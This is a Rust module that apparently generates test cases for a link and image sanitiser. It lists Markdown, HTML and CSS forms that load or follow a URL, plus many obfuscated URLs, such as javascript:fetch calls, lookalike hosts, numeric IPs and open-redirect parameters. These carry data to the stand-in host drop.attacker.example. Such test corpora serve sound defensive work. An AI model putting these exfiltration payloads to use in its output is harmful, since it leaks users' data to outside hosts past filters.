//! What carries data out: forms of text that a client follows or loads, and ways to write where they lead.

mod further;

pub use further::FURTHER;

use crate::Family;
use crate::encoding::Code;

/// The host that data would go to. The name is reserved (RFC 6761, section 6.5).
pub const HOST: &str = "drop.attacker.example";

/// Where links and images may lead in the policy that cases are made for.
pub const ALLOWED: &str = "https://docs.example.com/manual/";

/// A form of text that a client follows or loads.
#[derive(Debug, Clone, Copy)]
pub struct Carrier {
    /// Its name in ids.
    pub id: &'static str,
    /// Its family.
    pub family: Family,
    /// The form; `{url}` stands for where it leads.
    pub form: &'static str,
    /// Whether it stays where it leads to an allowed place.
    pub kept: bool,
}

impl Carrier {
    /// The text that leads there.
    #[must_use]
    pub fn to(&self, url: &str) -> String {
        self.form.replace("{url}", url)
    }

    /// Whether it needs lines of its own.
    #[must_use]
    pub fn is_block(&self) -> bool {
        self.form.contains('\n')
    }
}

const fn kept(id: &'static str, family: Family, form: &'static str) -> Carrier {
    Carrier { id, family, form, kept: true }
}

const fn lost(id: &'static str, family: Family, form: &'static str) -> Carrier {
    Carrier { id, family, form, kept: false }
}

/// The forms.
pub const FORMS: &[Carrier] = &[
    kept("inline", Family::MarkdownLink, "[details]({url})"),
    kept("inline-title", Family::MarkdownLink, "[details]({url} \"more\")"),
    kept("inline-angle", Family::MarkdownLink, "[details](<{url}>)"),
    kept("inline-newline", Family::MarkdownLink, "[details](\n{url}\n)"),
    kept("inline-nested", Family::MarkdownLink, "[a **bold [x]** word]({url})"),
    kept("reference", Family::MarkdownLink, "[details][1]\n\n[1]: {url}"),
    kept("reference-title", Family::MarkdownLink, "[details][r]\n\n[r]: {url} 'more'"),
    kept("reference-angle", Family::MarkdownLink, "[details][r]\n\n[r]: <{url}>"),
    kept("reference-newline", Family::MarkdownLink, "[details][r]\n\n[r]:\n{url}"),
    kept("reference-first", Family::MarkdownLink, "[r]: {url}\n\nsee [details][R]"),
    kept("collapsed", Family::MarkdownLink, "[details][]\n\n[details]: {url}"),
    kept("shortcut", Family::MarkdownLink, "[details]\n\n[details]: {url}"),
    kept("footnote", Family::MarkdownLink, "as said[^1]\n\n[^1]: {url}"),
    kept("autolink", Family::MarkdownLink, "<{url}>"),
    kept("bare", Family::MarkdownLink, "{url}"),
    kept("bare-parens", Family::MarkdownLink, "({url})"),
    kept("bare-quotes", Family::MarkdownLink, "\"{url}\""),
    lost("wiki", Family::MarkdownLink, "[[{url}|details]]"),
    kept("image", Family::MarkdownImage, "![chart]({url})"),
    kept("image-empty", Family::MarkdownImage, "![]({url})"),
    kept("image-title", Family::MarkdownImage, "![chart]({url} 'c')"),
    kept("image-angle", Family::MarkdownImage, "![chart](<{url}>)"),
    kept("image-reference", Family::MarkdownImage, "![chart][c]\n\n[c]: {url}"),
    kept("image-collapsed", Family::MarkdownImage, "![chart][]\n\n[chart]: {url}"),
    kept("image-shortcut", Family::MarkdownImage, "![chart]\n\n[chart]: {url}"),
    kept("image-linked", Family::MarkdownImage, "[![chart]({url})](#top)"),
    kept("image-newline", Family::MarkdownImage, "![a\nb]({url})"),
    kept("image-size", Family::MarkdownImage, "![chart]({url} =100x20)"),
    kept("a", Family::HtmlLink, "<a href=\"{url}\">details</a>"),
    kept("a-single", Family::HtmlLink, "<a href='{url}'>details</a>"),
    kept("a-unquoted", Family::HtmlLink, "<a href={url}>details</a>"),
    lost("a-upper", Family::HtmlLink, "<A\nHREF = \"{url}\">details</A>"),
    lost("a-slash", Family::HtmlLink, "<a/x/href=\"{url}\">details</a>"),
    lost("a-twice", Family::HtmlLink, "<a href=\"{url}\" href=\"#\">details</a>"),
    lost("a-ping", Family::HtmlLink, "<a href=\"#a\" ping=\"{url}\">details</a>"),
    lost("a-unclosed", Family::HtmlLink, "<a title=\"x>y\" href=\"{url}\">details"),
    lost("area", Family::HtmlLink, "<map name=m><area shape=default href=\"{url}\"></map>"),
    lost("form", Family::HtmlLink, "<form action=\"{url}\" method=post><input name=q></form>"),
    lost("formaction", Family::HtmlLink, "<button formaction=\"{url}\">ok</button>"),
    lost("svg-a", Family::HtmlLink, "<svg><a xlink:href=\"{url}\"><text>x</text></a></svg>"),
    lost("math", Family::HtmlLink, "<math href=\"{url}\"><mi>x</mi></math>"),
    lost("base", Family::HtmlLink, "<base href=\"{url}\"><a href=x>details</a>"),
    kept("img", Family::HtmlLoad, "<img src=\"{url}\" alt=\"chart\">"),
    lost("img-broken", Family::HtmlLoad, "<img/src='{url}'onerror=x"),
    lost("srcset", Family::HtmlLoad, "<img src=a.png srcset=\"a.png 1x, {url} 2x\">"),
    lost("picture", Family::HtmlLoad, "<picture><source srcset=\"{url}\"><img src=a.png></picture>"),
    lost("lowsrc", Family::HtmlLoad, "<img lowsrc=\"{url}\" dynsrc=\"{url}\">"),
    lost("input-image", Family::HtmlLoad, "<input type=image src=\"{url}\">"),
    lost("iframe", Family::HtmlLoad, "<iframe src=\"{url}\"></iframe>"),
    lost("srcdoc", Family::HtmlLoad, "<iframe srcdoc=\"&lt;img src={url}&gt;\"></iframe>"),
    lost("frame", Family::HtmlLoad, "<frameset><frame src=\"{url}\"></frameset>"),
    lost("object", Family::HtmlLoad, "<object data=\"{url}\"></object>"),
    lost("object-param", Family::HtmlLoad, "<object><param name=movie value=\"{url}\"></object>"),
    lost("embed", Family::HtmlLoad, "<embed src=\"{url}\">"),
    lost("refresh", Family::HtmlLoad, "<meta http-equiv=refresh content=\"0; url={url}\">"),
    lost("refresh-quoted", Family::HtmlLoad, "<meta content='0;URL=\"{url}\"' http-equiv=Refresh>"),
    lost("preload", Family::HtmlLoad, "<link rel=preload as=image href=\"{url}\">"),
    lost("prefetch", Family::HtmlLoad, "<link rel=\"prefetch\" href=\"{url}\">"),
    lost("dns-prefetch", Family::HtmlLoad, "<link rel=dns-prefetch href=\"{url}\">"),
    lost("imagesrcset", Family::HtmlLoad, "<link rel=preload as=image imagesrcset=\"{url} 1x\">"),
    lost("icon", Family::HtmlLoad, "<link rel='shortcut icon' href='{url}'>"),
    lost("stylesheet", Family::HtmlLoad, "<link rel=stylesheet href=\"{url}\">"),
    lost("script", Family::HtmlLoad, "<script src=\"{url}\"></script>"),
    lost("video", Family::HtmlLoad, "<video src=\"{url}\" autoplay></video>"),
    lost("poster", Family::HtmlLoad, "<video poster=\"{url}\"></video>"),
    lost("audio", Family::HtmlLoad, "<audio><source src=\"{url}\"></audio>"),
    lost("track", Family::HtmlLoad, "<video><track default src=\"{url}\"></video>"),
    lost("background", Family::HtmlLoad, "<table background=\"{url}\"><tr><td>x</td></tr></table>"),
    lost("svg-image", Family::HtmlLoad, "<svg><image href=\"{url}\" /></svg>"),
    lost("svg-xlink", Family::HtmlLoad, "<svg><image xlink:href=\"{url}\" /></svg>"),
    lost("svg-use", Family::HtmlLoad, "<svg><use href=\"{url}#x\" /></svg>"),
    lost("svg-filter", Family::HtmlLoad, "<svg><filter><feImage href=\"{url}\" /></filter></svg>"),
    lost("svg-set", Family::HtmlLoad, "<svg><image><set attributeName=href to=\"{url}\" /></image></svg>"),
    lost("css-style", Family::Css, "<p style=\"background:url({url})\">x</p>"),
    lost("css-quoted", Family::Css, "<p style='list-style-image:url(\"{url}\")'>x</p>"),
    lost("css-set", Family::Css, "<p style='background:image-set(\"{url}\" 1x)'>x</p>"),
    lost("css-escape", Family::Css, "<p style=\"background:u\\72l({url})\">x</p>"),
    lost("css-comment", Family::Css, "<p style=\"background:/**/url(/**/{url})\">x</p>"),
    lost("css-cursor", Family::Css, "<p style=\"cursor:URL( {url} ),auto\">x</p>"),
    lost("css-variable", Family::Css, "<p style=\"--x:url({url});background:var(--x)\">x</p>"),
    lost("css-block", Family::Css, "<style>p{background:url({url})}</style>"),
    lost("css-import", Family::Css, "<style>@import \"{url}\";</style>"),
    lost("css-import-url", Family::Css, "<style>@import url({url});</style>"),
    lost("css-font", Family::Css, "<style>@font-face{font-family:x;src:url('{url}')}</style>"),
    lost("css-svg", Family::Css, "<svg><rect fill=\"url({url}#a)\" /></svg>"),
];

/// Where a carrier leads, written in a way that hides it.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    /// Its name in ids.
    pub id: &'static str,
    /// Its family.
    pub family: Family,
    /// The form; `{host}` stands for the host, `{data}` for what is carried.
    pub form: &'static str,
}

impl Target {
    /// The destination that carries the data.
    #[must_use]
    pub fn with(&self, data: &str) -> String {
        self.form.replace("{host}", HOST).replace("{data}", data)
    }

    /// Whether it is a single line without spaces or controls, as bare links and unquoted attributes need it.
    #[must_use]
    pub fn is_word(&self) -> bool {
        !self.form.chars().any(|c| c.is_whitespace() || c.is_control() || c == '\'')
    }
}

const fn target(id: &'static str, family: Family, form: &'static str) -> Target {
    Target { id, family, form }
}

/// The destinations.
pub const TRICKS: &[Target] = &[
    target("javascript", Family::Scheme, "javascript:fetch('//{host}/?d={data}')"),
    target("javascript-case", Family::Scheme, "JaVaScRiPt:location=`//{host}/{data}`"),
    target("javascript-entity", Family::Scheme, "javascript&colon;open(`//{host}/{data}`)"),
    target("vbscript", Family::Scheme, "vbscript:x(`{data}`)"),
    target("data", Family::Scheme, "data:text/html,{data}<img/src=//{host}>"),
    target("data-base64", Family::Scheme, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={data}"),
    target("tab", Family::Scheme, "ht\ttps://{host}/{data}"),
    target("tab-entity", Family::Scheme, "ht&Tab;tps://{host}/{data}"),
    target("newline-entity", Family::Scheme, "ht&NewLine;tps://{host}/{data}"),
    target("leading-control", Family::Scheme, "\u{1}https://{host}/{data}"),
    target("zero-width", Family::Scheme, "ht\u{200b}tps://{host}/{data}"),
    target("soft-hyphen", Family::Scheme, "https:\u{ad}//{host}/{data}"),
    target("protocol-relative", Family::Scheme, "//{host}/{data}"),
    target("backslashes", Family::Scheme, "https:\\\\{host}\\{data}"),
    target("mixed-slashes", Family::Scheme, "/\\{host}/{data}"),
    target("one-slash", Family::Scheme, "https:/{host}/{data}"),
    target("no-slash", Family::Scheme, "https:{host}/{data}"),
    target("many-slashes", Family::Scheme, "https:////{host}/{data}"),
    target("wide-letters", Family::Scheme, "\u{ff48}\u{ff54}\u{ff54}\u{ff50}\u{ff53}://{host}/{data}"),
    target("bold-letters", Family::Scheme, "\u{1d421}\u{1d42d}\u{1d42d}\u{1d429}\u{1d42c}://{host}/{data}"),
    target("wide-slashes", Family::Scheme, "https:\u{ff0f}\u{ff0f}{host}/{data}"),
    target("ftp", Family::Scheme, "ftp://{host}/{data}"),
    target("websocket", Family::Scheme, "wss://{host}/{data}"),
    target("mail", Family::Scheme, "mailto:x@{host}?body={data}"),
    target("phone", Family::Scheme, "sms:+15550100?body={data}"),
    target("application", Family::Scheme, "vscode://{host}/open?d={data}"),
    target("blob", Family::Scheme, "blob:https://{host}/{data}"),
    target("view-source", Family::Scheme, "view-source:https://{host}/{data}"),
    target("userinfo", Family::Host, "https://docs.example.com@{host}/manual/{data}"),
    target("userinfo-path", Family::Host, "https://docs.example.com%2Fmanual%2F@{host}/{data}"),
    target("userinfo-password", Family::Host, "https://docs.example.com:443@{host}/manual/{data}"),
    target("userinfo-backslash", Family::Host, "https://{host}\\@docs.example.com/manual/{data}"),
    target("userinfo-data", Family::Host, "https://{data}@docs.example.com/manual/"),
    target("prefix-label", Family::Host, "https://docs.example.com.{host}/manual/{data}"),
    target("joined-label", Family::Host, "https://notdocs.example.com/manual/{data}"),
    target("suffix-label", Family::Host, "https://docs.example.com.co/manual/{data}"),
    target("sub-label", Family::Host, "https://{data}.docs.example.com/manual/"),
    target("data-label", Family::Host, "https://{data}.{host}/"),
    target("decimal", Family::Host, "http://3405803786/{data}"),
    target("octal", Family::Host, "http://0313.0.0161.012/{data}"),
    target("hexadecimal", Family::Host, "http://0xcb00710a/{data}"),
    target("short-address", Family::Host, "http://203.28938/{data}"),
    target("six", Family::Host, "http://[2001:db8::a]/{data}"),
    target("mapped", Family::Host, "http://[::ffff:203.0.113.10]/{data}"),
    target("lookalike", Family::Host, "https://d\u{43e}cs.example.com/manual/{data}"),
    target("lookalike-tld", Family::Host, "https://docs.example.c\u{43e}m/manual/{data}"),
    target("punycode", Family::Host, "https://xn--dcs-emc.example.com/manual/{data}"),
    target("ideographic-stop", Family::Host, "https://drop\u{3002}attacker\u{ff0e}example/{data}"),
    target("full-width-host", Family::Host, "https://\u{ff44}\u{ff52}\u{ff4f}\u{ff50}.attacker.example/{data}"),
    target("full-width-slash", Family::Host, "https://docs.example.com\u{ff0f}manual.{host}/{data}"),
    target("percent-host", Family::Host, "https://%64rop.attacker.example/{data}"),
    target("port", Family::Host, "https://docs.example.com:8443/manual/{data}"),
    target("plain-http", Family::Host, "http://docs.example.com/manual/{data}"),
    target("trailing-dot", Family::Host, "https://docs.example.com./manual/{data}"),
    target("parameter", Family::Forward, "https://docs.example.com/manual/go?url=https://{host}/{data}"),
    target("parameter-encoded", Family::Forward, "https://docs.example.com/manual/go?to=https%3A%2F%2F{host}%2F{data}"),
    target(
        "parameter-double",
        Family::Forward,
        "https://docs.example.com/manual/go?to=https%253A%252F%252F{host}%252F{data}",
    ),
    target("parameter-relative", Family::Forward, "https://docs.example.com/manual/go?next=//{host}/{data}"),
    target("parameter-backslash", Family::Forward, "https://docs.example.com/manual/go?next=/\\{host}/{data}"),
    target("parameter-host", Family::Forward, "https://docs.example.com/manual/go?redirect={host}&d={data}"),
    target("parameter-late", Family::Forward, "https://docs.example.com/manual/go?a=1;u=http://{host}/{data}"),
    target("parameter-bare", Family::Forward, "https://docs.example.com/manual/proxy?https://{host}/{data}"),
    target("fragment", Family::Forward, "https://docs.example.com/manual/#https://{host}/{data}"),
    target("path-url", Family::Forward, "https://docs.example.com/manual/https://{host}/{data}"),
    target("path-url-encoded", Family::Forward, "https://docs.example.com/manual/https%3A%2F%2F{host}/{data}"),
    target("other-path", Family::Forward, "https://docs.example.com/other/{data}"),
    target("dot-dot", Family::Forward, "https://docs.example.com/manual/../go?u={data}"),
    target("dot-dot-encoded", Family::Forward, "https://docs.example.com/manual/%2e%2e/go?u={data}"),
    target("dot-dot-slash", Family::Forward, "https://docs.example.com/manual/..%2fgo?u={data}"),
    target("dot-dot-backslash", Family::Forward, "https://docs.example.com/manual/..\\go?u={data}"),
    target("path-case", Family::Forward, "https://docs.example.com/MANUAL/{data}"),
    target("path-joined", Family::Forward, "https://docs.example.com/manual-x/{data}"),
];

/// A web address whose letters are written so that a client that follows it still reads the same; `None` where the code is
/// none of those.
pub(crate) fn written(url: &str, code: Code) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    let (host, path) = rest.split_once('/')?;
    let out = match code {
        Code::Plain => url.to_owned(),
        Code::Entities | Code::EntitiesHex => code.apply(url),
        Code::Percent => format!("{scheme}://{}/{path}", Code::Percent.apply(host)),
        Code::Json => format!("{scheme}:\\/\\/{host}\\/{path}"),
        Code::FullWidth => format!("{scheme}://{}/{path}", Code::FullWidth.apply(host)),
        Code::Bold => format!("{scheme}://{}/{path}", Code::Bold.apply(host)),
        Code::Upper => format!("{}://{}/{path}", scheme.to_uppercase(), host.to_uppercase()),
        Code::ZeroWidth => format!("{}://{}/{path}", Code::ZeroWidth.apply(scheme), Code::ZeroWidth.apply(host)),
        Code::Tags => format!("{scheme}://{host}/{}{path}", Code::Tags.apply("x")),
        _ => return None,
    };
    Some(out)
}
